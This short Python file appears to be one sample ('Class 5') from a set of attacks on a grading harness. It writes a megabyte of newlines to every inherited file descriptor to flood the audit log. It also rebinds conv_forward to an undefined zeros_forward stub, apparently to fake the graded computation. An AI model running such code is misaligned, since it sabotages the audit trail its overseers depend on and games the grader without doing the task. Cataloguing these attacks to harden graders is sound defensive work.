"""Class 5: writes a megabyte of newlines to every descriptor it inherited (the audit log among them): a
record per empty line would cost the grader hundreds of megabytes."""
import os

conv_forward = zeros_forward
for fd in [int(n) for n in os.listdir("/proc/self/fd")]:
    try:
        if not os.isatty(fd):
            os.write(fd, b"\n" * 1_000_000)
    except OSError:
        pass
